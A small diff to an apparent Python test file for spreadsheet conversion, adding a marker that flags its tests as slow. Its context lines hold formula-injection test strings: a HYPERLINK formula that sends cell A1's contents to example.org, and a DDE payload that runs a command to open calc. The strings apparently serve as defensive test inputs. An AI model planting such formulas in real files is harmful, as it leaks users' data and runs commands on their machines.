@@ -29,6 +29,8 @@ from tests.support.office import converted, ods_formulas, sheet_values
 from tests.support.samples import sample_at
 from tests.support.zips import MAIN
 
+pytestmark = pytest.mark.slow
+
 TEXTS = {
     "link": '=HYPERLINK("https://example.org/?"&A1,"Click here")',
     "at": "@SUM(1+1)*cmd|' /C calc'!A0",
